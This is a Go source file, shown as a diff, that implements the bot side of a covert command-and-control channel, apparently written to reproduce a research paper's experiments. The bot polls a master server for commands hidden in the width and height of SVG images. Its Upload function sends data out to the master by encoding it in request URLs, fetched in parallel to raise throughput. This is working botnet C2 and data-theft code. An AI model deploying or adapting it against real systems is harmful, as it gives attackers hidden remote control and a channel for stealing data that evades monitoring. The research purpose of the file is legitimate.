@@ -1,0 +1,159 @@
+package cnc
+
+import (
+	"context"
+	"fmt"
+	"io"
+	"net/http"
+	"strconv"
+	"sync"
+)
+
+// Bot is the parasite-side endpoint of the covert channel, used over a
+// real HTTP connection (the loopback experiments and the cmd/master
+// tool). Inside the packet simulation the parasite package reimplements
+// the same protocol over httpsim using this package's codec.
+type Bot struct {
+	// BaseURL is the master's base URL, e.g. "http://127.0.0.1:8080".
+	BaseURL string
+	// ID identifies the bot to the master.
+	ID string
+	// Client is the HTTP client; http.DefaultClient when nil.
+	Client *http.Client
+	// Concurrency is the number of parallel image fetches during Poll.
+	// The paper's 100 KB/s figure depends on "a client which sends
+	// requests for multiple images simultaneously"; 1 disables
+	// parallelism (the ablation). Default 8.
+	Concurrency int
+
+	lastSeen int
+}
+
+func (b *Bot) client() *http.Client {
+	if b.Client != nil {
+		return b.Client
+	}
+	return http.DefaultClient
+}
+
+func (b *Bot) concurrency() int {
+	if b.Concurrency > 0 {
+		return b.Concurrency
+	}
+	return 8
+}
+
+func (b *Bot) fetchSVG(ctx context.Context, url string) (Dim, error) {
+	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
+	if err != nil {
+		return Dim{}, fmt.Errorf("cnc bot: %w", err)
+	}
+	resp, err := b.client().Do(req)
+	if err != nil {
+		return Dim{}, fmt.Errorf("cnc bot fetch: %w", err)
+	}
+	defer func() { _ = resp.Body.Close() }()
+	if resp.StatusCode != http.StatusOK {
+		return Dim{}, fmt.Errorf("cnc bot fetch %s: status %d", url, resp.StatusCode)
+	}
+	body, err := io.ReadAll(io.LimitReader(resp.Body, 4096))
+	if err != nil {
+		return Dim{}, fmt.Errorf("cnc bot read: %w", err)
+	}
+	return ParseSVG(body)
+}
+
+// Poll checks the master for a new command. ok is false when nothing new
+// is pending.
+func (b *Bot) Poll(ctx context.Context) (payload []byte, id int, ok bool, err error) {
+	meta, err := b.fetchSVG(ctx, fmt.Sprintf("%s/meta/%s.svg", b.BaseURL, b.ID))
+	if err != nil {
+		return nil, 0, false, err
+	}
+	cmdID, count := int(meta.W), int(meta.H)
+	if cmdID == 0 || cmdID == b.lastSeen {
+		return nil, 0, false, nil
+	}
+	dims, err := b.fetchImages(ctx, cmdID, count)
+	if err != nil {
+		return nil, 0, false, err
+	}
+	data, err := DecodeDims(dims)
+	if err != nil {
+		return nil, 0, false, err
+	}
+	b.lastSeen = cmdID
+	return data, cmdID, true, nil
+}
+
+// fetchImages retrieves the command's image sequence, in parallel.
+func (b *Bot) fetchImages(ctx context.Context, cmdID, count int) ([]Dim, error) {
+	dims := make([]Dim, count)
+	errs := make([]error, count)
+	sem := make(chan struct{}, b.concurrency())
+	var wg sync.WaitGroup
+	for seq := 0; seq < count; seq++ {
+		wg.Add(1)
+		go func(seq int) {
+			defer wg.Done()
+			sem <- struct{}{}
+			defer func() { <-sem }()
+			url := fmt.Sprintf("%s/img/%s/%d/%d.svg", b.BaseURL, b.ID, cmdID, seq)
+			d, err := b.fetchSVG(ctx, url)
+			dims[seq] = d
+			errs[seq] = err
+		}(seq)
+	}
+	wg.Wait()
+	for _, err := range errs {
+		if err != nil {
+			return nil, err
+		}
+	}
+	return dims, nil
+}
+
+// Upload exfiltrates data to the master under a stream name, encoded
+// entirely in request URLs.
+func (b *Bot) Upload(ctx context.Context, stream string, data []byte) error {
+	chunks := EncodeURLChunks(data, DefaultChunkSize)
+	sem := make(chan struct{}, b.concurrency())
+	errs := make([]error, len(chunks))
+	var wg sync.WaitGroup
+	for seq, chunk := range chunks {
+		wg.Add(1)
+		go func(seq int, chunk string) {
+			defer wg.Done()
+			sem <- struct{}{}
+			defer func() { <-sem }()
+			url := fmt.Sprintf("%s/up/%s/%s/%s/%s", b.BaseURL, b.ID, stream, strconv.Itoa(seq), chunk)
+			errs[seq] = b.get(ctx, url)
+		}(seq, chunk)
+	}
+	wg.Wait()
+	for _, err := range errs {
+		if err != nil {
+			return err
+		}
+	}
+	return b.get(ctx, fmt.Sprintf("%s/up/%s/%s/fin", b.BaseURL, b.ID, stream))
+}
+
+func (b *Bot) get(ctx context.Context, url string) error {
+	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
+	if err != nil {
+		return fmt.Errorf("cnc bot: %w", err)
+	}
+	resp, err := b.client().Do(req)
+	if err != nil {
+		return fmt.Errorf("cnc bot upload: %w", err)
+	}
+	defer func() { _ = resp.Body.Close() }()
+	if _, err := io.Copy(io.Discard, resp.Body); err != nil {
+		return fmt.Errorf("cnc bot drain: %w", err)
+	}
+	if resp.StatusCode != http.StatusOK {
+		return fmt.Errorf("cnc bot upload %s: status %d", url, resp.StatusCode)
+	}
+	return nil
+}
